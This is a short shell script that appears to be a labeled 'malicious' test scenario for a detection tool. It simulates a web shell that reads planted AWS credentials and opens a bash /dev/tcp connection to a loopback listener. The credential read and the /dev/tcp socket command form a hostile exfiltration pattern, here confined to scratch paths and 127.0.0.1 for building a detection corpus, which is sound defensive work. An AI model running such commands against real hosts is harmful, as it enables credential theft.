#!/bin/sh
# quell labeled corpus scenario (malicious): a web shell reads cloud credentials and sends them out
# Run by ../../record-corpus.sh under `quell run --record`; uses only the scratch paths it is given
# ($S below /var/log, $W below /tmp, $E below /etc, $B fake program names), loopback only.
set -u
mkdir -p $H/.aws; echo secret > $H/.aws/credentials
python3 -c "import socket,sys;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('127.0.0.1',int(sys.argv[1])));s.listen(4);s.settimeout(5)
try:
 c,_=s.accept();c.recv(64)
except Exception: pass" 9001 &
LSN=$!
sleep 0.5
$B/httpd "cat $H/.aws/credentials > /dev/null; bash -c 'exec 3<>/dev/tcp/127.0.0.1/9001; echo x >&3'"
kill $LSN 2>/dev/null; wait $LSN 2>/dev/null

